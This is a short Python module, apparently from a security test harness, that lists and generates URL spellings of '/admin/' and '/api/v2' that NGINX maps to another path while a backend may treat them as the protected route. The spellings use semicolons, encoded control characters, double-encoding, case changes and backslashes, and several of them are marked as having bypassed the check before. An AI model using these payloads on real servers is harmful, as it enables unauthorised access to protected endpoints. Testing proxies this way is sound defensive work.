# Copyright (c) 2026 flowbiz
# GNU General Public License v3.0-or-later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Spellings of a protected path that NGINX takes for another path, and a backend perhaps for the protected one."""

from __future__ import annotations

import random

from readings import is_refused, nginx_uri

__all__ = ("PASSED_ONCE", "PROTECTED", "spellings")

PROTECTED = ["/admin/", "/api/v2"]

# The spellings that passed once, and their kind. Any of them that is found again goes in here.
PASSED_ONCE = (
    "/;/admin/", "/.;/admin/", "/;x=1/admin/x", "/.;x/admin", "/;/;/admin/", "/./;/admin/", "/;%2f/admin/",
    "/admin%0a", "/admin%0ax", "/admin%0d", "/admin%7f", "/admin%01/x", "/admin%250a", "/api/%0a/../v2",
    "/%2561dmin/", "/%25%36%31dmin/", "/admin%252f", "/admin%253bx/", "/x%252f..%252fadmin/", "/admin;/", "/admin;x/y",
    "/ADMIN/", "/Admin", "/admin\\", "/\\admin/", "/%5cadmin/", "/%255cadmin/", "/admin%3f", "/admin%23x", "/aPi/v2x",
    "/api/;/v2", "/api;x/v2", "/api/.;/v2", "/api%2f;%2fv2", "/api/%2e;/v2", "/;\\%0a/admin",
)  # fmt: skip
_PIECES = (
    "/ // /./ /;/ /.;/ /;x=1/ \\ %2f %5c %252f %255c %2e %252e . ; %3b %253b ;v=1 %0a %250a %7f a A %61 %41 %2561 "
    "admin Admin adm%69n %61dmin api v2 V2 %76%32 x y b ?"
).split()


def spellings(count: int) -> list[str]:
    """Return so many targets that a protected path is a reading of, and NGINX takes for another path."""
    chance = random.Random(20261129)  # the same ones in every run
    found = dict.fromkeys(PASSED_ONCE)
    while len(found) < count:
        raw = "/" + "".join(chance.choice(_PIECES) for _ in range(chance.randrange(1, 8)))
        if nginx_uri(raw) is not None and is_refused(raw, PROTECTED):
            found[raw] = None
    return list(found)
